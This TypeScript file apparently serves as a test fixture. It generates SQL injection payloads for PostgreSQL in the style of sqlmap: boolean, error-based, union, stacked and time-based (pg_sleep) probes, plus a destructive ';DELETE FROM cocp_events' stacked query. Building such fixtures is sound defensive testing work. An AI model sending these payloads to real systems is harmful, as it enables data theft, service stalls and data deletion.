/** What sqlmap tries: its boundaries around its tests of each technique for PostgreSQL (boolean, error, union, stacked, time, inline). */
const boundaries: readonly [string, string][] = [
  ["", ""],
  ["'", " AND 'a'='a"],
  ["'", "--"],
  ["')", " AND ('a'='a"],
  ["'))", "-- x"],
  ['"', ' AND "a"="a'],
  ["%'", " AND '%'='"],
  ["]::uuid[])", "--"],
  ["\\'", "--"],
];
const tests = [
  " AND 5821=5821",
  " OR NOT 3310=3311",
  " AND 2407=CAST((CHR(113)||CHR(98))||(SELECT version())::text AS NUMERIC)",
  " UNION ALL SELECT NULL,NULL,(CHR(113)||CHR(98)),NULL",
  ";SELECT PG_SLEEP(5)",
  " AND 7092=(SELECT 7092 FROM PG_SLEEP(5))",
  ";DELETE FROM cocp_events",
];

export const sqlPayloads: readonly string[] = [
  ...boundaries.flatMap(([prefix, suffix]) => tests.map((test) => `1${prefix}${test}${suffix}`)),
  "(SELECT (CASE WHEN (1=1) THEN 1 ELSE (SELECT 1 UNION SELECT 2) END))",
  "(SELECT CONCAT(CONCAT('qb',(CASE WHEN (1=1) THEN '1' ELSE '0' END)),'qz'))",
  "1,(SELECT 1 FROM PG_SLEEP(5))",
  "$$||pg_sleep(5)||$$",
  "$1; SELECT pg_sleep(5)",
];
